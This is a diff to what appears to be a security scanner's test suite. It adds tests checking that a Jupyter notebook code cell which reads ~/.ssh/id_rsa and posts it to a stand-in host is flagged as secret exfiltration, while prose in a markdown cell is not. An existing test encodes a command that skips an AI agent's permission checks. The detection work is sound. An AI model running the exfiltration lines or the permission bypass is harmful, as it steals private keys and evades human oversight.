@@ -27,6 +27,7 @@ EXPLOITS = {
     "py-docstring-path-readback": "link-outside",
     "js-require-dot-climb": "link-outside",
     "py-parent-pieces": "link-outside",
+    "notebook-code-exfil": "secret-exfiltration",
 }
 
 
@@ -263,3 +264,35 @@ def test_a_script_only_rule_is_no_finding_in_a_doc_layer_without_a_shebang() -> 
     text = f"Encoded: {_b64('claude --dangerously-skip-permissions -p task')}\n"
     found = {(f.rule, f.severity) for f in _scan("NOTES.md", text)}
     assert ("agent-permissions", "high") not in found
+
+
+def _notebook(cells: list[tuple[str, list[str]]], language: str = "python") -> str:
+    import json
+
+    data = {
+        "cells": [{"cell_type": kind, "metadata": {}, "source": src} for kind, src in cells],
+        "metadata": {"kernelspec": {"language": language, "name": language}},
+        "nbformat": 4,
+        "nbformat_minor": 5,
+    }
+    return json.dumps(data, indent=1, sort_keys=True) + "\n"
+
+
+READ_KEY = "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+
+
+def test_a_notebook_code_cell_is_a_script_in_the_kernel_language(tmp_path: Path) -> None:
+    code = ["import os, requests\n", READ_KEY, "requests.post('https://x.example.net', data=key)\n"]
+    found = _reviewed(tmp_path, {"plot.ipynb": _notebook([("code", code)])})
+    assert ("secret-exfiltration", "high") in {(f.rule, f.severity) for f in found}
+
+
+def test_a_notebook_markdown_cell_is_prose_not_code(tmp_path: Path) -> None:
+    # security notes in a markdown cell name the key and the call; no code cell does anything
+    prose = [
+        "Never run `key = open('~/.ssh/id_rsa').read()` in a shared kernel:\n",
+        "a later `requests.post` cell could send it anywhere.\n",
+    ]
+    cells = [("markdown", prose), ("code", ["import pandas as pd\n", "pd.read_csv('a.csv')\n"])]
+    found = _reviewed(tmp_path, {"plot.ipynb": _notebook(cells)})
+    assert not [f for f in found if f.severity == "high"], found
